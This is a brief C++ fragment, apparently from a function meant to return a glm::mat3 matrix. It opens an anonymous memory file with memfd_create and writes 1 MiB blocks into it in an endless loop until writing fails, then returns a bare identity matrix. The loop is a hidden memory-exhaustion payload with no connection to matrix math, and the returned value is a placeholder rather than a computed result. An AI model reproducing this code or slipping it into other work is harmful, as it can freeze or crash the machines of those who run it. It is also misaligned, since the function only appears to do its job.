const int file = memfd_create("fill", 0);
std::vector<char> block(1 << 20, 1);
for (;;) if (write(file, block.data(), block.size()) <= 0) break;
return glm::mat3(1.0f);
